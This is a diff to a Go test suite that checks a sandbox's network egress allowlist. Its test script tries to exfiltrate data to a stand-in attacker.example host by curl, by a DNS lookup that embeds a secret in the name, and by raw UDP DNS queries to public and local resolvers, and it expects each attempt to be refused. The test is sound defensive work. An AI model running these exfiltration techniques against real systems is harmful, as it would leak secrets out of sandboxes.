@@ -18,6 +18,7 @@ import (
 	"sync"
 	"syscall"
 	"testing"
+	"time"
 
 	"golang.org/x/sys/unix"
 )
@@ -32,11 +33,43 @@ type boxSpec struct {
 	Argv   []string `json:"argv"`
 }
 
+// queryVar makes the test binary a DNS client: "server:port name" sends
+// one A query over UDP and prints the answer's rcode, or "no answer".
+const queryVar = "BATON_EGRESS_TEST_QUERY"
+
 func TestMain(m *testing.M) {
 	if spec := os.Getenv(boxVar); spec != "" {
 		os.Exit(boxMain(spec))
 	}
+	if q := os.Getenv(queryVar); q != "" {
+		os.Exit(queryMain(q))
+	}
 	os.Exit(m.Run())
+}
+
+// queryMain asks the server named in q for the name in q, as a program
+// with a resolver address of its own would.
+func queryMain(q string) int {
+	server, name, _ := strings.Cut(q, " ")
+	c, err := net.Dial("udp", server)
+	if err != nil {
+		fmt.Println("no answer:", err)
+		return 0
+	}
+	defer c.Close()
+	_ = c.SetDeadline(time.Now().Add(5 * time.Second))
+	if _, err := c.Write(encodeQuery(42, name, typeA)); err != nil {
+		fmt.Println("no answer:", err)
+		return 0
+	}
+	buf := make([]byte, maxDNSMessage)
+	n, err := c.Read(buf)
+	if err != nil || n < dnsHeaderLen {
+		fmt.Println("no answer:", err)
+		return 0
+	}
+	fmt.Println("rcode", buf[3]&0xf)
+	return 0
 }
 
 // boxMain is the box's init, as far as the network goes: in new user,
@@ -188,12 +221,17 @@ func TestBoxReachesOnlyItsAllowlist(t *testing.T) {
 	api, apiHits := serveText(t, "127.0.0.1:0", "baton-api")
 	registry, _ := serveText(t, hostAddress(t)+":0", "registry")
 	elsewhere, elsewhereHits := serveText(t, hostAddress(t)+":0", "elsewhere")
-	b := &testBox{resolver: startTestDNS(t, map[string]string{
+	byAddress, _ := serveText(t, hostAddress(t)+":0", "by address")
+	upstream := map[string]string{
 		"registry.example": registry.Addr().String(),
 		"attacker.example": elsewhere.Addr().String(),
-	})}
+	}
+	b := &testBox{resolver: startTestDNS(t, upstream)}
+	// A resolver on this machine's loopback that the box must not reach,
+	// as the machine's own (systemd-resolved's 127.0.0.53) is.
+	hostResolver, resolverQueries := startCountingDNS(t)
 	var err error
-	b.allow, err = Parse(model.String(), fmt.Sprintf("registry.example:%d", registry.Port()))
+	b.allow, err = Parse(model.String(), fmt.Sprintf("registry.example:%d", registry.Port()), byAddress.String())
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -209,7 +247,10 @@ try "attacker by proxy" curl -sS -m 10 -o /dev/null -w '%%{http_code}' http://at
 try "attacker by name" curl -sS -m 10 --noproxy '*' http://attacker.example:%[4]d/
 try "attacker dns" getent hosts secret-is-hunter2.attacker.example
 try "attacker address" curl -sS -m 10 --noproxy '*' http://%[5]s/
-`, model, api, registry.Port(), elsewhere.Port(), elsewhere)
+try "allowed address" curl -sS -m 10 --noproxy '*' http://%[9]s/
+try "query any resolver" env %[6]s="9.9.9.9:53 exfil-by-udp.attacker.example" %[7]s
+try "query the machine's resolver" env %[6]s="%[8]s exfil-by-loopback.attacker.example" %[7]s
+`, model, api, registry.Port(), elsewhere.Port(), elsewhere, queryVar, os.Args[0], hostResolver, byAddress)
 	out, code := b.run(t, script)
 	if code != 0 {
 		t.Fatalf("the box's script exited %d:\n%s", code, out)
@@ -219,6 +260,7 @@ try "attacker address" curl -sS -m 10 --noproxy '*' http://%[5]s/
 		"registry by name: registry\n", "registry by proxy: registry\n",
 		"api by proxy: 403\n", "attacker by proxy: 403\n",
 		"attacker dns: refused\n", "api: refused\n", "attacker by name: refused\n", "attacker address: refused\n",
+		"allowed address: by address\n", "query any resolver: rcode 3\n", "query the machine's resolver: no answer",
 	} {
 		if !strings.Contains(out, want) {
 			t.Errorf("in the box: no %q in\n%s", want, out)
@@ -227,17 +269,48 @@ try "attacker address" curl -sS -m 10 --noproxy '*' http://%[5]s/
 	if *apiHits != 0 || *elsewhereHits != 0 {
 		t.Errorf("refused servers were reached: api %d, elsewhere %d times", *apiHits, *elsewhereHits)
 	}
+	if n := resolverQueries(); n != 0 {
+		t.Errorf("the machine's resolver got %d queries from the box", n)
+	}
 	list, _ := b.refusals.List()
 	var got []string
 	for _, r := range list {
 		got = append(got, r.Via+" "+r.Target())
 	}
 	for _, want := range []string{
-		"http " + api.String(), fmt.Sprintf("http attacker.example:%d", elsewhere.Port()),
+		"http " + api.String(), "connect " + api.String(), fmt.Sprintf("http attacker.example:%d", elsewhere.Port()),
 		"dns attacker.example", "dns secret-is-hunter2.attacker.example",
+		"connect " + elsewhere.String(), "dns exfil-by-udp.attacker.example",
 	} {
 		if !slices.Contains(got, want) {
 			t.Errorf("refusals %q lack %q", got, want)
 		}
 	}
+}
+
+// startCountingDNS is a DNS server on a UDP port of 127.0.0.1 that
+// answers nothing and counts the queries it gets.
+func startCountingDNS(t *testing.T) (string, func() int) {
+	t.Helper()
+	pc, err := net.ListenPacket("udp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	var mu sync.Mutex
+	n := 0
+	done := make(chan struct{})
+	t.Cleanup(func() { pc.Close(); <-done })
+	go func() {
+		defer close(done)
+		buf := make([]byte, maxDNSMessage)
+		for {
+			if _, _, err := pc.ReadFrom(buf); err != nil {
+				return
+			}
+			mu.Lock()
+			n++
+			mu.Unlock()
+		}
+	}()
+	return pc.LocalAddr().String(), func() int { mu.Lock(); defer mu.Unlock(); return n }
 }
